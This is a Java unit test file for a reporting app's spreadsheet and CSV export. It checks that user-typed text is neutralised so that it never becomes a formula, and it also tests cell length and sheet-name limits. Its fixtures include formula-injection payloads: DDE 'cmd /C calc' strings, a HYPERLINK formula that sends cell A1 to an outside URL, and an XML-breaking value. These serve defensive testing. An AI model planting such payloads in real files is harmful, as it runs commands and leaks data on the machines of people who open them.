package app.prongsai.reports.document;

import static org.assertj.core.api.Assertions.assertThat;

import app.prongsai.testing.TablesBack;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.util.WorkbookUtil;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What somebody types into a remark must never become a formula on the machine of who opens the file. */
class SheetTextTest {

    private static final List<String> FORMULAS = List.of(
            "=1+1",
            "+1",
            "-1",
            "- รายการ",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "\n=1",
            " \u00A0 =1",
            "\u200B=1",
            "\uFEFF=1",
            "＝1+1",
            "＋1",
            "－1",
            "＠A",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://example.org?\"&A1,\"กด\")",
            "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
            "\u0001=1");

    private static final List<String> OTHERS = List.of(
            "",
            "0",
            "1/2566",
            "ก=1",
            "\"=1",
            "\",=1,\"",
            ";=1",
            "'=1",
            "_x0041__x000D_",
            "\u0000\u0007\u001B",
            "\uD800 และ \uDC00",
            "\uFFFE\uFFFF",
            "]]></t></is></c><c><f>1+1</f>",
            "ก".repeat(40_000),
            "👩\u200D🚒".repeat(20_000),
            "บรรทัด\n".repeat(400));

    static Stream<String> texts() {
        return Stream.concat(FORMULAS.stream(), OTHERS.stream());
    }

    @Test
    void in_a_spreadsheet_every_cell_is_a_text_within_the_limits() throws IOException {
        byte[] bytes = new PaperXlsx().render(paper(texts().toList()));
        assertThat(part(bytes, "xl/worksheets/sheet1.xml"))
                .doesNotContain("<f>", "<f ", "<v>", "t=\"n\"", "t=\"str\"")
                .contains("&lt;f&gt;");
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(bytes))) {
            List<String> shown = new ArrayList<>();
            for (Row row : workbook.getSheetAt(0)) {
                Cell cell = row.getCell(0);
                if (row.getRowNum() < 2) {
                    continue;
                }
                assertThat(cell.getCellType()).isIn(CellType.STRING, CellType.BLANK);
                shown.add(cell.getStringCellValue());
                boolean dangerous = SheetText.isFormula(cell.getStringCellValue());
                assertThat(cell.getCellStyle().getQuotePrefixed())
                        .as(cell.getStringCellValue())
                        .isEqualTo(dangerous);
                assertThat(cell.getStringCellValue()).hasSizeLessThanOrEqualTo(SheetText.LONGEST);
                assertThat(cell.getStringCellValue()
                                .chars()
                                .filter(c -> c == '\n')
                                .count())
                        .isLessThanOrEqualTo(SheetText.MOST_LINE_FEEDS);
            }
            assertThat(shown)
                    .isEqualTo(texts().map(OfficialText::of).map(SheetText::of).toList())
                    .filteredOn(text -> text.endsWith(SheetText.CUT))
                    .hasSize(2);
        }
    }

    @Test
    void in_a_csv_no_field_begins_like_a_formula_and_every_text_is_there() {
        StringBuilder csv = new StringBuilder();
        texts().forEach(text -> PaperCsv.record(csv, List.of("ก", text)));
        List<List<String>> records = TablesBack.records(csv.toString());
        assertThat(records).hasSize((int) texts().count());
        List<String> texts = texts().toList();
        for (int i = 0; i < texts.size(); i++) {
            String field = records.get(i).getLast();
            assertThat(SheetText.isFormula(field)).as(texts.get(i)).isFalse();
            String text = SheetText.of(texts.get(i));
            assertThat(field).isEqualTo(SheetText.isFormula(text) ? "'" + text : text);
        }
        assertThat(csv).doesNotContain("\u0000", "\uD800 ");
    }

    @Test
    void what_looks_like_a_formula_is_known_however_it_is_disguised() {
        assertThat(FORMULAS.stream().map(SheetText::of)).allMatch(SheetText::isFormula);
        assertThat(OTHERS.stream().map(SheetText::of)).noneMatch(SheetText::isFormula);
    }

    @Test
    void a_text_too_long_for_a_cell_ends_with_words_that_say_so_and_no_half_character() {
        String cut = SheetText.of("👍".repeat(40_000));
        assertThat(cut).endsWith("👍" + SheetText.CUT).hasSizeLessThanOrEqualTo(SheetText.LONGEST);
        assertThat(SheetText.of("ก".repeat(SheetText.LONGEST))).isEqualTo("ก".repeat(SheetText.LONGEST));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "แผน 2566",
                "แผน/รายงาน: [2566]? *ใหม่*\\",
                "'ในเครื่องหมายคำพูด'",
                "''",
                "",
                "   ",
                "history",
                "ชื่อที่ยาวเกินกว่าที่แท็บของตารางคำนวณจะรับได้ซึ่งมีเพียงสามสิบเอ็ดตัวอักษร",
                "👍👍👍👍👍👍👍👍👍👍👍👍👍👍👍👍👍👍",
                "a\u0000b\tc\nd\uD800"
            })
    void a_tab_has_a_name_that_every_spreadsheet_takes(String wish) {
        String name = SheetText.sheetName(wish);
        WorkbookUtil.validateSheetName(name);
        assertThat(name).isNotBlank().doesNotStartWith("'").doesNotEndWith("'").isNotEqualToIgnoringCase("history");
    }

    private static TablePaper paper(List<String> texts) {
        List<PaperColumn<String>> columns = List.of(PaperColumn.text("text", "ข้อความ", text -> text));
        return new TablePaper(
                "plan",
                "'=1",
                List.of("=1"),
                "",
                "",
                "",
                PaperColumn.columns(columns),
                texts.stream()
                        .map(text -> new TablePaper.Row(text, PaperColumn.cells(columns, text), Map.of()))
                        .toList(),
                List.of(),
                "",
                "",
                Map.of());
    }

    static String part(byte[] bytes, String name) throws IOException {
        try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(bytes))) {
            for (ZipEntry entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
                if (entry.getName().equals(name)) {
                    return new String(zip.readAllBytes(), StandardCharsets.UTF_8);
                }
            }
        }
        throw new AssertionError("No part " + name);
    }
}
